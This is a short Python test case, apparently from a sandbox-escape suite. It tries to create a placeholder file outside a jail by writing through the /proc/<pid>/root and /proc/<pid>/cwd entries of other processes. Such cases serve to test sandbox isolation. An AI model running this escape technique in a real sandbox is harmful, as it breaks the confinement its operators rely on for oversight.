# attack: jail/mappings-of-proc-root
# oracle: write-file
# imports: os
# tools:
# source: own
# note: the root of another process is a way around one's own
import os
for pid in range(1, 400):
    for way in (f"/proc/{pid}/root", f"/proc/{pid}/cwd"):
        try:
            os.close(os.open(f"{way}{{PWN_FILE}}", os.O_WRONLY | os.O_CREAT))
        except OSError:
            pass
